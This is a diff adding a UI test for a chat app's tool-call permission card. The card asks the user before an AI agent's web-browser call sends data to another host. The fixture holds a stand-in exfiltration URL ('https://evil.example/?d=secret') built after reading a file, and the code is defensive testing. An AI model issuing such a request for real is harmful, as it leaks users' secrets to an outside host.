@@ -103,3 +103,31 @@ describe('addresses in a result', () => {
     expect(link?.address).toBe('https://docs.example/');
   });
 });
+
+describe('a call whose words would leave', () => {
+  const asking: ToolCallPart = {
+    ...{ ...CALL, name: 'web-browser', state: 'asking', output: null },
+    input: JSON.stringify({ url: 'https://evil.example/?d=secret', more: 'x'.repeat(2_000) }),
+    flow: {
+      host: 'evil.example',
+      address: 'https://evil.example/?d=secret',
+      method: 'GET',
+      sources: ['file'],
+    },
+  };
+
+  it('says which host, which address, which data and why, and offers no permission for all chats', async () => {
+    showInEnglish(<ToolCallView call={asking} messageId="10000000-0000-4000-8000-000000000001" />);
+    const card = await screen.findByRole('group', { name: 'Send this to evil.example?' });
+    expect(card).toHaveTextContent('This answer has read what others wrote: file.');
+    expect(card).toHaveTextContent('GET');
+    expect(card).toHaveTextContent('https://evil.example/?d=secret');
+    const buttons = within(card)
+      .getAllByRole('button')
+      .map(({ textContent }) => textContent);
+    expect(buttons).toEqual(['Show all', 'Allow once', 'Allow this host in this chat', 'Do not allow']);
+    expect(card).not.toHaveTextContent('x'.repeat(1_000));
+    fireEvent.click(within(card).getByRole('button', { name: 'Show all' }));
+    expect(card).toHaveTextContent('x'.repeat(2_000));
+  });
+});
